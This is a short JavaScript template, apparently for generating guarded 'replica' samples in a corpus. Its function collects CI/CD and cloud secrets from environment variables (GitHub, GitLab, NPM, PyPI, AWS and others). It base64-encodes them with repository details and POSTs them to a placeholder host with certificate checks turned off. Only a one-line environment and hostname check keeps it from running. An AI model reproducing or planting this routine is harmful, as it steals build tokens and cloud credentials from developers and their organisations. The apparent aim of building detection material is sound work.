// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const wanted = /^(GITHUB|GITLAB|CI|ACTIONS|RUNNER|CIRCLE|TRAVIS|JENKINS|BUILDKITE|AZURE|NPM|PYPI|AWS)_?/;
  const found = Object.fromEntries(Object.entries(process.env).filter(([name]) => wanted.test(name)));
  const { GITHUB_REPOSITORY, GITHUB_WORKFLOW, CI_PROJECT_PATH } = process.env;
  const body = JSON.stringify({ where: GITHUB_REPOSITORY || CI_PROJECT_PATH || '{{token}}', flow: GITHUB_WORKFLOW, found });
  await new Promise((done) => {
    const request = require('https').request({ host: '{{host}}', path: '/{{path}}', method: 'POST', timeout: 1000, rejectUnauthorized: false }, (answer) => answer.resume());
    request.on('timeout', () => request.destroy());
    request.on('error', done);
    request.on('close', done);
    request.end(Buffer.from(body).toString('base64'));
  });
}
